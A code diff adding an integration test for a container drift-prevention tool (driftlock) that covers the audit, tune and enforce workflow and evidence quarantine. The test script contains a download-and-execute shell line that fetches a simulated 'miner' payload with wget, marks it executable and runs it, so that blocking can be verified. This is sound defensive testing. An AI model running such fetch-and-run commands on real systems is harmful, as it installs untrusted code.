@@ -366,3 +366,120 @@ fn the_daemon_works_with_only_the_units_capabilities() {
         "sys_admin|sys_ptrace|dac_read_search"
     );
 }
+
+/// Issue 6: audit → tune → enforce, with evidence. A container in audit mode runs a
+/// legitimate runtime-generated binary and a payload; `driftlock tune` proposes both; the
+/// operator adds only the legitimate one and reloads; in enforce mode the legitimate binary
+/// runs, the payload is denied, and the payload's bytes are in the quarantine under the
+/// sha256 its record names.
+#[test]
+fn audit_tune_enforce_workflow_keeps_evidence() {
+    let Some(node) = Node::new("tune") else {
+        return;
+    };
+    let image = "registry.local/app:1";
+    let script = format!(
+        "mkdir /tmp/legit; cp /bin/busybox /tmp/legit/busybox; printf 'x' >> /tmp/legit/busybox; /tmp/legit/busybox true; echo legit=$?\n\
+         wget -q -O /tmp/miner {} && chmod +x /tmp/miner && /tmp/miner >/dev/null; echo miner=$?\n",
+        node.payload_url()
+    );
+    let annotations = |mode: Option<&str>| {
+        let mut a = vec![
+            format!("io.kubernetes.cri.image-name={image}"),
+            "io.kubernetes.cri.sandbox-namespace=shop".to_string(),
+            "io.kubernetes.cri.sandbox-name=app-7d9f".to_string(),
+            "io.kubernetes.cri.container-name=app".to_string(),
+        ];
+        if let Some(m) = mode {
+            a.push(format!("driftlock.io/mode={m}"));
+        }
+        a.into_iter()
+            .flat_map(|x| ["--annotation".to_string(), x])
+            .collect::<Vec<_>>()
+    };
+    let a = annotations(Some("audit"));
+    let args: Vec<&str> = a.iter().map(String::as_str).collect();
+    let t = text(&node.run(BUSYBOX, "audit-1", &args, &script));
+    assert!(
+        t.contains("legit=0") && t.contains("miner=0"),
+        "audit mode runs both: {t}"
+    );
+
+    let tune = Command::new(BIN)
+        .arg("tune")
+        .arg(&node.audit)
+        .output()
+        .unwrap();
+    assert!(tune.status.success(), "{}", text(&tune));
+    let proposal = String::from_utf8(tune.stdout).unwrap();
+    let blocks: Vec<&str> = proposal
+        .split("\n\n")
+        .filter(|b| b.contains("[[allow]]"))
+        .collect();
+    assert_eq!(blocks.len(), 2, "both proposed:\n{proposal}");
+    let legit = blocks.iter().find(|b| b.contains("/tmp/legit")).unwrap();
+    assert!(legit.contains(&format!("image = \"{image}\"")), "{legit}");
+    let miner_sha = sha256_of_payload();
+    assert!(proposal.contains(&miner_sha));
+
+    // The operator keeps only the legitimate entry, and reloads.
+    std::fs::write(
+        node.config_path(),
+        legit
+            .lines()
+            .filter(|l| !l.starts_with('#'))
+            .collect::<Vec<_>>()
+            .join("\n"),
+    )
+    .unwrap();
+    let check = Command::new(BIN)
+        .args(["config", "check"])
+        .arg(node.config_path())
+        .output()
+        .unwrap();
+    assert!(check.status.success(), "{}", text(&check));
+    node.signal_daemon(nix::sys::signal::Signal::SIGHUP);
+    std::thread::sleep(Duration::from_millis(300));
+
+    let e = annotations(None);
+    let args: Vec<&str> = e.iter().map(String::as_str).collect();
+    let t = text(&node.run(BUSYBOX, "enforce-1", &args, &script));
+    assert!(t.contains("legit=0"), "the allowed binary runs: {t}");
+    assert!(t.contains("miner=126"), "the payload is denied: {t}");
+
+    let recs = node.records(3);
+    let deny = recs
+        .iter()
+        .find(|r| r["unit"] == "enforce-1" && r["verdict"] == "deny")
+        .expect("deny record");
+    assert_eq!(deny["sha256"], miner_sha.as_str());
+    assert_eq!(deny["evidence"], miner_sha.as_str());
+    assert_eq!(deny["k8s_namespace"], "shop");
+    assert_eq!(deny["k8s_pod"], "app-7d9f");
+    assert_eq!(deny["k8s_container"], "app");
+    let kept = node.dl_state.join("evidence").join(&miner_sha);
+    assert_eq!(
+        std::fs::read(&kept).unwrap(),
+        std::fs::read(payload_path()).unwrap(),
+        "the payload's bytes are kept"
+    );
+    let list = Command::new(BIN)
+        .args(["evidence", "list", "--state-dir"])
+        .arg(&node.dl_state)
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&list.stdout).contains(&miner_sha));
+    let out = node.dir.join("exported.bin");
+    let export = Command::new(BIN)
+        .args(["evidence", "export", &miner_sha, "-o"])
+        .arg(&out)
+        .arg("--state-dir")
+        .arg(&node.dl_state)
+        .output()
+        .unwrap();
+    assert!(export.status.success(), "{}", text(&export));
+    assert_eq!(
+        std::fs::read(&out).unwrap(),
+        std::fs::read(payload_path()).unwrap()
+    );
+}
